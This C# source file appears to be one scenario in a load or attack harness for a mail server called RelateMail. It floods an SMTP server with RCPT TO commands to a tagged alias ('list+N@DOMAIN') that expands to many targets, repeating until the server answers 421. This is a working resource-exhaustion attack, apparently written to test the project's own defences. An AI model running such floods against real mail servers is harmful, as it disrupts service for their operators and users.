using System.Globalization;
using RelateMail.Attacks.Attacking;

namespace RelateMail.Attacks.Scenarios;

/// <summary>
/// RCPT of one alias with a new tag each time. Prepare an alias <c>list@DOMAIN</c> with many targets first.
/// </summary>
internal sealed class TagsOfAnAlias() : Scenario(
    "tags-of-an-alias", "RCPT to list+N@DOMAIN, an alias with many targets that you prepare")
{
    private const int PerTransaction = 1_000;

    public override Task RunAsync(Attack attack, CancellationToken stop)
    {
        long number = 0;
        return attack.OnEachConnectionAsync(
            async (index, token) =>
            {
                using RawClient? client = await attack.ConnectAsync(attack.Options.Smtp, index, token);
                if (client is null)
                {
                    return;
                }

                await client.AskAsync("EHLO attacker.example", token);
                while (!token.IsCancellationRequested)
                {
                    await client.AskAsync("MAIL FROM:<attacker@example.com>", token);
                    for (int sent = 0; sent < PerTransaction; sent++)
                    {
                        long tag = Interlocked.Increment(ref number);
                        string address = string.Create(
                            CultureInfo.InvariantCulture, $"list+{tag}@{attack.Options.Domain}");
                        int code = await client.AskAsync($"RCPT TO:<{address}>", token);
                        attack.Count($"RCPT answered with {code}");
                        if (code == 421)
                        {
                            return;
                        }
                    }

                    await client.AskAsync("RSET", token);
                }
            },
            stop);
    }
}
